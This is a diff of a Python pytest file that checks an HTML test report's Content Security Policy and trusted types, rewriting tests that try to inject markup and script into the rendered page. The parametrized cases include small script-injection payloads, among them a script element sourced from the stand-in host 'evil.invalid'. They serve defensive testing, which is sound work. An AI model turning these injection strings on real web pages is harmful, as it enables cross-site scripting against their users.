@@ -2,20 +2,25 @@
 
 from __future__ import annotations
 
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
 import msgspec
 import pytest
 from hydrotest_core.run.findings import Outcome
 
-ELEMENTS_OF_OURS = "script, style, form, iframe, object, embed, link, base, img, video, math, textarea"
+ELEMENTS_OF_OURS = (
+    "script, style, form, iframe, object, embed, link, base, img, video, math, textarea"
+)
 
 
-@pytest.fixture(params=["written out", "packed"])
-def page(request, visit, hostile_report):
+@pytest.fixture(scope="module", params=["written out", "packed"])
+def page(request, visit_once, hostile_report):
     """The hostile run's page, once with its tests in the page and once in the packed island."""
     if request.param == "packed":
         more = hostile_report.verdicts * (1 + 600 // len(hostile_report.verdicts))
         hostile_report = msgspec.structs.replace(hostile_report, verdicts=more)
-    return visit(hostile_report)
+    return visit_once(hostile_report)
 
 
 def is_clean(page):
@@ -64,32 +69,83 @@ def test_no_link_leads_away(page):
 
 
 def test_each_payload_is_shown_as_text(visit, a_report, a_verdict, payloads):
-    plain = [text for text in payloads if text.isascii() and text.isprintable() and len(text) < 1000]
+    plain = [
+        text for text in payloads if text.isascii() and text.isprintable() and len(text) < 1000
+    ]
     verdicts = [a_verdict("spec", "t", Outcome.SKIPPED, reason=text) for text in plain]
 
     page = visit(a_report(verdicts=verdicts))
 
-    shown = page.evaluate("[...document.querySelectorAll('.reasons li > p')].map(e => e.textContent)")
+    shown = page.evaluate(
+        "[...document.querySelectorAll('.reasons li > p')].map(e => e.textContent)"
+    )
     assert shown == plain
 
 
-def test_the_policy_stops_what_escaping_would_miss(visit, failing_report):
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        pytest.param("document.body.innerHTML = '<b>x</b>'", id="text as markup"),
+        pytest.param("document.body.setAttribute('onclick', 'window.PWNED = 1')", id="a handler"),
+        pytest.param("eval('window.PWNED = 1')", id="text as a script"),
+        pytest.param(
+            "document.createElement('script').src = 'http://evil.invalid/'", id="a script"
+        ),
+    ],
+)
+def test_the_policy_refuses_what_escaping_would_miss(visit, failing_report, attempt):
     page = visit(failing_report)
 
-    # A page that made an element out of text after all: trusted types refuse the text,
-    # and the policy refuses the handler of an element that was put together by hand.
-    refused = page.evaluate(
-        "(() => { try { document.body.innerHTML = '<b>x</b>'; } catch (e) { return e.name; } })()"
-    )
-    page.evaluate(
-        "(() => { const i = document.createElement('img'); i.setAttribute('onerror', 'window.PWNED=1');"
-        " i.src = 'http://evil.invalid/'; document.body.append(i); })()"
-    )
-    page.wait_for_timeout(100)
+    page.locator("#keys").evaluate(f"(button) => {{ button.onclick = () => {{ {attempt} }} }}")
+    page.click("#keys")
 
-    assert refused == "TypeError"
+    assert page.errors
     assert page.evaluate("typeof window.PWNED") == "undefined"
-    assert [url for url in page.requests if not url.endswith("/report.html")] == []
+
+
+@pytest.fixture
+def listener():
+    """A server on this machine, and the paths that were asked of it."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_error(404)
+
+        def log_message(self, *args):
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+        thread.join()
+
+
+def test_the_policy_loads_no_image_frame_or_style(visit, failing_report, listener):
+    address, asked = listener
+    page = visit(failing_report)
+
+    page.evaluate(
+        """(address) => {
+            for (const tag of ["img", "iframe"]) {
+                const element = document.createElement(tag);
+                element.src = `${address}/${tag}`;
+                document.body.append(element);
+            }
+            const link = document.createElement("link");
+            link.rel = "stylesheet";
+            link.href = `${address}/style`;
+            document.head.append(link);
+        }""",
+        address,
+    )
+    page.goto(f"{address}/last")
+
+    assert asked[0] == "/last"
+    assert len([text for text in page.errors if "Content Security Policy" in text]) == 3
 
 
 def test_a_hostile_address_does_nothing(visit, failing_report):
